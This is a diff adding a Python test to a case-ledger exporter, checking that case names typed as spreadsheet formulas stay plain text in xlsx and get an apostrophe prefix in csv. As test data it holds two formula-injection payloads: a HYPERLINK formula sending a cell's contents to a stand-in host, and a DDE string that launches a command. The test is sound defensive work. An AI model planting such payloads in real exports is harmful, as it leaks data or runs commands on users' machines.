@@ -390,3 +390,28 @@ def test_cases_folder_must_exist(home: Path, tmp_path: Path) -> None:
     result = _export("--from", "2026-01-01", "--to", "2026-12-31", "--cases", str(tmp_path / "nope"))
     assert result.exit_code == 2
     assert "--cases 不是文件夹" in _said(result)
+
+
+# ─────────────────────────────────────── spreadsheets are data ───────────────────────────────
+
+
+def test_case_text_that_looks_like_a_formula_stays_text_in_xlsx_and_csv() -> None:
+    """A case name typed as a formula is exported as the text it is: a string cell in xlsx (openpyxl
+    would store it as a formula), an apostrophe before it in csv (Excel then shows the text)."""
+    from openpyxl import load_workbook
+
+    from gongu.ledger_export import to_csv, to_xlsx
+
+    evil = '=HYPERLINK("http://example.invalid/?"&A2,"详情")'
+    data = _case(SINGLE, case_name=evil, institution__name="+cmd|' /C calc'!A0")
+    row, _ = _row(data)
+    book = load_workbook(io.BytesIO(to_xlsx([row], period="2026")))
+    sheet = book.active
+    by_header = {c.value: cell for c, cell in zip(sheet[1], sheet[2], strict=True)}
+    assert by_header["案件名称"].data_type == "s" and by_header["案件名称"].value == evil
+    assert by_header["鉴定机构"].data_type == "s"
+    assert by_header["收到委托日期"].is_date  # dates stay real dates
+    lines = list(csv.reader(io.StringIO(to_csv([row]).decode("utf-8-sig"), newline="")))
+    cells = dict(zip(lines[0], lines[1], strict=True))
+    assert cells["案件名称"] == "'" + evil and cells["鉴定机构"] == "'+cmd|' /C calc'!A0"
+    assert cells["案件编号"] == "MK-2026-0087"  # ordinary text is untouched
